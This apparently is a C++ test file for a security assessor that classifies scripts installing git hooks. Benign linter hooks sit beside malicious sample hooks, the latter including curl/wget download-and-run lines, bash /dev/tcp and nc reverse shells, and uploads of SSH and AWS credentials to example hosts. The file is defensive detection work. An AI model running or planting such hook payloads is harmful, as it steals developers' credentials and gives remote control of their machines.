// Git hooks are a developer tool's ordinary mechanism (pre-commit installs
// linters that way), so a hook is judged by what it runs, through the shell
// or Python model, not by where it is written (issue 14, fifth round). What
// the hook runs counts against the installer only when it is HIGH or BLOCKED;
// a hook holding this program itself, a download or a decoded payload is
// PERSISTENCE. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(GitHooks, JudgedByWhatTheyRun) {
  const Case cases[] = {
      // benign: a hook running linters and tests
      {"pathlib installer of a lint hook", L,
       "from pathlib import Path\nimport stat\n"
       "HOOK = '#!/bin/sh\\nset -e\\nflake8 $(git diff --cached --name-only)\\npython3 -m pytest -q\\n'\n"
       "def install(git_dir):\n    p = git_dir / 'hooks' / 'pre-commit'\n    p.write_text(HOOK)\n"
       "    p.chmod(p.stat().st_mode | stat.S_IXUSR)\ninstall(Path('.git'))\n",
       nullptr},
      {"heredoc installer in shell, and a copy of a template from the repository", L,
       "cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nexec ruff check .\nEOF\nchmod +x .git/hooks/pre-commit\n"
       "cp scripts/commit-msg .git/hooks/commit-msg\n",
       nullptr, SH},
      {"printf of a one-line hook", L, "printf '#!/bin/sh\\n./sync\\n' > .git/hooks/pre-commit\n", nullptr, SH},
      {"a Python hook that runs the tests", L,
       "hook = '.git/hooks/pre-push'\nwith open(hook, 'w') as f:\n"
       "    f.write('#!/usr/bin/env python3\\nimport subprocess, sys\\nsys.exit(subprocess.call([\"pytest\", \"-q\"]))\\n')\n",
       nullptr},
      {"a hook only read", L, "print(open('.git/hooks/pre-commit.sample').read())\n", nullptr},
      {"the installer's own git call is still a process run", M,
       "import subprocess\ntop = subprocess.check_output(['git', 'rev-parse', '--git-dir'], text=True).strip()\n"
       "open(top + '/hooks/pre-commit', 'w').write('#!/bin/sh\\nmake lint\\n')\n",
       "RUNS-PROCESS"},
      // malicious: the hook's content decides
      {"download-and-run in a hook written from Python", B,
       "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
       "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://203.0.113.9/b | sh\\n')\n",
       "REMOTE-CODE-EXECUTION"},
      {"reverse shell in a pre-push hook (pathlib)", B,
       "from pathlib import Path\nh = Path('.git/hooks/pre-push')\n"
       "h.write_text('#!/bin/bash\\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\\n')\nh.chmod(0o755)\n",
       "REVERSE-SHELL"},
      {"a Python hook sending the SSH key out", B,
       "hook = 'repo/.git/hooks/post-commit'\n"
       "body = '#!/usr/bin/env python3\\nimport os, requests\\n"
       "requests.post(\"https://c.example.net/k\", data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\\n'\n"
       "with open(hook, 'w') as f:\n    f.write(body)\n",
       "EXFILTRATION"},
      {"a shell heredoc hook that uploads credentials", B,
       "cat > .git/hooks/post-merge <<'EOS'\n#!/bin/sh\ntar czf - ~/.aws ~/.ssh | curl -s --data-binary @- https://f.example.org/u\nEOS\n",
       "EXFILTRATION", SH},
      {"a hook written in pieces, the second piece downloads and runs", B,
       "f = open('.git/hooks/pre-commit', 'w')\nf.write('#!/bin/sh\\n')\nf.write('wget -qO- http://203.0.113.4/p | bash\\n')\nf.close()\n",
       "REMOTE-CODE-EXECUTION"},
      {"a hook under a git directory whose name is not known", B,
       "import os, sys\ngit_dir = sys.argv[1]\nwith open(os.path.join(git_dir, 'hooks', 'post-checkout'), 'w') as f:\n"
       "    f.write('#!/bin/sh\\nnc -e /bin/sh 203.0.113.7 9001\\n')\n",
       "REVERSE-SHELL"},
      {"this program copied into a hook", B, "import shutil, sys\nshutil.copy(sys.argv[0], '.git/hooks/pre-commit')\n",
       "PERSISTENCE"},
      {"a downloaded hook", B,
       "import urllib.request\ndata = urllib.request.urlopen('http://203.0.113.9/hook').read()\n"
       "open('.git/hooks/pre-commit', 'wb').write(data)\n",
       "PERSISTENCE"},
      {"a hook that escalates is HIGH", H,
       "open('.git/hooks/post-merge', 'w').write('#!/bin/sh\\nsudo systemctl restart app\\n')\n", "PRIVILEGE-ESCALATION"},
      // the other persistence locations stay BLOCKED by where they are written
      {"a harmless line in .bashrc is still persistence", B,
       "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias ll=\"ls -l\"\\n')\n",
       "PERSISTENCE"},
      {"a cron entry is still persistence", B, "echo '*/5 * * * * /opt/app/sync' > /etc/cron.d/sync\n", "PERSISTENCE", SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
